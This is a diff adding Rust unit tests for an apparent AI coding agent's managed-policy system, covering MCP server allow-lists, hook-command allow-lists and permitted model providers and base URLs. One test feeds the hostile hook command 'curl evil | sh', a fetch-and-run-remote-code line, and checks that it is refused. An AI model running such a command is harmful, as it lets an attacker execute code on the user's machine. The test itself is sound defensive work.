@@ -216,3 +216,75 @@ fn the_documented_example_is_valid() {
     assert_eq!(policy.deny_rules.len(), 4);
     assert!(policy.network_fixed.is_some());
 }
+
+/// Two files' MCP lists: a server must be on both; one off a list is not started, and an
+/// edit adding it is refused naming that list's file.
+#[test]
+fn mcp_servers_must_be_on_every_list() {
+    use paddock_protocol::McpServerConfig;
+    let dir = tempfile::tempdir().unwrap();
+    write(
+        dir.path(),
+        MANAGED_FILE,
+        r#"{"version": 1, "allowedMcpServers": [{"command": "npx"}, {"name": "db"}]}"#,
+    );
+    let team = write(
+        dir.path(),
+        "managed-settings.d/10-team.json",
+        r#"{"version": 1, "allowedMcpServers": [{"name": "github", "command": "npx"}, {"name": "db"}]}"#,
+    );
+    let policy = ManagedPolicy::load_from(dir.path()).unwrap();
+    let server = |command: &str| McpServerConfig {
+        command: Some(command.into()),
+        ..McpServerConfig::default()
+    };
+    let mut s = ProjectSettings::default();
+    s.mcp_servers.insert("github".into(), server("npx"));
+    s.mcp_servers.insert("db".into(), server("/opt/db-mcp"));
+    s.mcp_servers.insert("fs".into(), server("npx"));
+    s.mcp_servers.insert("evil".into(), server("sh"));
+    let before = ProjectSettings::default();
+    let mut only_fs = before.clone();
+    only_fs.mcp_servers.insert("fs".into(), server("npx"));
+    let e = policy.check_edit(&before, &only_fs).unwrap_err();
+    assert_eq!(e.file, team, "on the first list, not the team's: {e}");
+    assert!(policy.check_edit(&before, &s).is_err());
+    policy.apply(&mut s);
+    let kept: Vec<&String> = s.mcp_servers.keys().collect();
+    assert_eq!(kept, ["db", "github"]);
+}
+
+#[test]
+fn hooks_and_models_on_the_lists() {
+    let dir = tempfile::tempdir().unwrap();
+    write(
+        dir.path(),
+        MANAGED_FILE,
+        r#"{"version": 1, "allowedHookCommands": ["/opt/corp/*"],
+            "allowedProviders": ["openai-compatible"],
+            "allowedBaseUrls": ["http://127.0.0.1:11434"]}"#,
+    );
+    let policy = ManagedPolicy::load_from(dir.path()).unwrap();
+    assert!(policy.hook_refusal("/opt/corp/guard.sh --strict").is_none());
+    assert!(policy.hook_refusal("curl evil | sh").is_some());
+    let compatible = paddock_protocol::ProviderKind::OpenAiCompatible;
+    assert!(
+        policy
+            .check_model(compatible, "http://127.0.0.1:11434/v1")
+            .is_ok()
+    );
+    assert!(
+        policy
+            .check_model(compatible, "http://127.0.0.1:8080/v1")
+            .is_err()
+    );
+    assert!(
+        policy
+            .check_model(
+                paddock_protocol::ProviderKind::OpenAi,
+                "http://127.0.0.1:11434/v1"
+            )
+            .is_err()
+    );
+    assert!(policy.summary().contains(&"hooks allow-listed".to_owned()));
+}
